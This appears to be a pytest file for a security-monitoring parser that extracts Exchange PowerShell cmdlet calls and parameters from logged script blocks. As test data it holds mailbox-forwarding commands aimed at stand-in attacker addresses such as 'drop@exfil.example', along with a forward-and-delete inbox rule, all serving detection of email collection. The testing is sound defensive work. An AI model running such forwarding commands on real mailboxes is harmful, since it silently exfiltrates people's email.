"""app/normalise/cmdlet_text.py: Exchange cmdlet calls and their parameters read from script and command-line text."""

import json

from app.normalise.cmdlet_text import cmdlet_pattern, find_invocations


def test_cmdlet_parameters():
    pattern = cmdlet_pattern(["New-InboxRule", "Set-Mailbox"])
    text = ('New-InboxRule -Name "a b" -ForwardTo "x@y.com",\'z@y.com\' -DeleteMessage $true -StopProcessingRules\n'
            'Set-Mailbox -Identity:bob -ForwardingSmtpAddress $null; Set-Mailbox bob -ForwardingAddress `\n  "mgr"')
    found = find_invocations(text, pattern)
    assert found[0] == ("New-InboxRule", {"name": "a b", "forwardto": "x@y.com;z@y.com", "deletemessage": "$true",
                                          "stopprocessingrules": "True"})
    assert found[1] == ("Set-Mailbox", {"identity": "bob", "forwardingsmtpaddress": ""})
    # A value before any named parameter binds to the cmdlet's first positional one.
    assert found[2] == ("Set-Mailbox", {"identity": "bob", "forwardingaddress": "mgr"})
    assert find_invocations("Get-Date; Set-Mailbox -ForwardingAddress m", pattern) == [
        ("Set-Mailbox", {"forwardingaddress": "m"})]


def test_cmdlet_names_must_be_whole_words():
    pattern = cmdlet_pattern(["Set-Mailbox"])
    assert find_invocations("Set-MailboxFolderPermission -Identity x", pattern) == []
    assert find_invocations("Get-Set-Mailbox", pattern) == []


def test_decoy_calls_do_not_hide_a_later_one(engine):
    decoys = "\n".join("Set-Mailbox -Identity user%d -ProhibitSendQuota 50GB" % i for i in range(200))
    script = decoys + "\nSet-Mailbox -Identity ceo -ForwardingSmtpAddress smtp:drop@exfil.example\n"
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "ScriptBlockText": script, "user": "x"}
    assert engine.annotate(record) is True
    assert "t1114_003_mailbox_forwarding" in [f["rule"] for f in json.loads(record["t1114_findings"])]


def test_hostile_cmdlet_text_is_bounded_and_reported():
    from app.problems import ProblemLog

    pattern = cmdlet_pattern(["Set-Mailbox"])
    problems = ProblemLog()
    # An unclosed quote makes the rest of the text one string, as PowerShell reads it: one call.
    unclosed = "Set-Mailbox -Identity 'x " * 20000
    assert [name for name, _ in find_invocations(unclosed, pattern, problems)] == ["Set-Mailbox"]
    hostile = "Set-Mailbox -Identity x;" * 20000
    found = find_invocations(hostile, pattern, problems)
    assert 0 < len(found) < 20000
    assert any("were not checked" in m for m in problems.messages())


def test_hostile_cmdlet_text_costs_steps_in_proportion_to_its_length():
    """Counted in lines of app/ code run (tools/step_count.py), not timed: twice the hostile
    text costs at most about twice the steps (an unclosed quote reads to its call's budget,
    never to the text's end)."""
    from tools.step_count import count_steps

    pattern = cmdlet_pattern(["Set-Mailbox"])
    unit = "Set-Mailbox -Identity 'x "  # calls that never end their statement
    _, steps = count_steps(find_invocations, unit * 400, pattern)
    _, doubled = count_steps(find_invocations, unit * 800, pattern)
    assert steps > 0
    assert doubled <= 2.2 * steps, "find_invocations over unclosed Set-Mailbox calls: %d steps for 400, %d for 800" % (
        steps, doubled)


def test_a_script_block_logged_again_is_read_once_and_answers_the_same(monkeypatch):
    """Repeated script blocks take their answer from the recent readings: read once, the same
    calls (fresh dicts each time), and a budget message given again for each event."""
    from app.normalise import cmdlet_text
    from app.problems import ProblemLog

    monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
    reads = []
    real_invocations = cmdlet_text.invocations
    monkeypatch.setattr(cmdlet_text, "invocations", lambda *args: reads.append(1) or real_invocations(*args))
    pattern = cmdlet_pattern(["Set-Mailbox"])
    script = "Set-Mailbox -Identity ceo -ForwardingSmtpAddress x@evil.example"
    first = find_invocations(script, pattern)
    first[0][1]["identity"] = "changed by a caller"
    second = find_invocations(script, pattern)
    assert second == [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x@evil.example"})]
    assert len(reads) == 1
    assert find_invocations(script, cmdlet_pattern(["New-InboxRule", "Set-Mailbox"])) == second   # other names: read again
    assert len(reads) == 2

    hostile = "Set-Mailbox -Identity ceo -ForwardingSmtpAddress x\n" + "(" * 300 + "Get-Date" + ")" * 300
    messages = []
    for _ in range(2):
        problems = ProblemLog()
        assert find_invocations(hostile, pattern, problems)[0][0] == "Set-Mailbox"
        messages.append(problems.messages())
    assert len(reads) == 3 and messages[0] == messages[1] and any("nests brackets" in m for m in messages[1])


def test_the_recent_readings_stay_bounded_and_keep_no_long_values(monkeypatch):
    from app.normalise import cmdlet_text

    monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
    monkeypatch.setattr(cmdlet_text, "RECENT_READINGS", 5)
    pattern = cmdlet_pattern(["Set-Mailbox"])
    for number in range(12):
        find_invocations("Set-Mailbox -Identity user%d -ForwardingAddress m" % number, pattern)
    assert len(cmdlet_text._RECENT_READINGS) == 5
    long_value = "Set-Mailbox -Identity ceo -ForwardingAddress " + "m" * (cmdlet_text.KEPT_VALUE_CHARS + 1)
    assert find_invocations(long_value, pattern)[0][1]["forwardingaddress"].startswith("mmm")
    assert len(cmdlet_text._RECENT_READINGS) == 5 and all(
        len(value) < 100 for calls, _ in cmdlet_text._RECENT_READINGS.values() for _, parameters in calls
        for _, value in parameters)
